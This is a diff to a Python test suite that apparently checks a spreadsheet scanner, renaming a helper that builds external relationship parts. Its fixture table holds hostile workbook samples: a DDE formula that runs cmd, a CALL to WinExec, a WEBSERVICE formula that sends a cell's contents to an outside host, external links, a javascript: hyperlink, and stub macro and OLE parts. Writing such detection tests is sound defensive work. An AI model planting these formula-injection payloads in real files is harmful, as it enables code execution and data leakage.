@@ -39,7 +39,9 @@ def cell(formula: str) -> Callable[[Parts], Parts]:
     }
 
 
-def arrow(kind: str, target: str, part: str = "xl/_rels/odd.xml.rels") -> Callable[[Parts], Parts]:
+def relationship(
+    kind: str, target: str, part: str = "xl/_rels/odd.xml.rels"
+) -> Callable[[Parts], Parts]:
     text = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         f'<Relationship Id="rId1" Type="{ARROWS}/{kind}" Target="{target}" TargetMode="External"/>'
@@ -70,9 +72,9 @@ LIVE = {
     "dde": (cell("cmd|'/c calc'!A0"), "HB312"),
     "webservice": (cell('_xlfn.WEBSERVICE("http://elders/"&amp;A1)'), "HB313"),
     "call": (cell('CALL("kernel32","WinExec","JC","calc")'), "HB312"),
-    "picture": (arrow("image", "http://elders/x.png"), "HB313"),
-    "workbook": (arrow("externalLinkPath", "file:///\\\\elders\\x.xlsx"), "HB312"),
-    "script": (arrow("hyperlink", "javascript:x"), "HB313"),
+    "picture": (relationship("image", "http://elders/x.png"), "HB313"),
+    "workbook": (relationship("externalLinkPath", "file:///\\\\elders\\x.xlsx"), "HB312"),
+    "script": (relationship("hyperlink", "javascript:x"), "HB313"),
     "macros": (part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "HB312"),
     "object": (part("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1"), "HB312"),
     "macro kind": (kind(MACROS), "HB320"),
@@ -129,8 +131,8 @@ def test_our_own_workbooks_and_ordinary_changes_are_no_fault(root: Path, plain: 
         cell("SUM(A1:A9)&amp;Tabel1[Kop|rest]"),
         cell('HYPERLINK("https://elders.nl/","zie")'),
         cell('IF(A1="a|b",1,VLOOKUP(A1,B:C,2,0))'),
-        arrow("hyperlink", "PP-01.docx"),
-        arrow("hyperlink", "mailto:anja@berk.nl"),
+        relationship("hyperlink", "PP-01.docx"),
+        relationship("hyperlink", "mailto:anja@berk.nl"),
         part("xl/drawings/drawing9.xml", b"<wsDr macro=''><sp macro=''/></wsDr>"),
         part("xl/printerSettings/printerSettings1.bin", b"HP\0\0"),
     ):
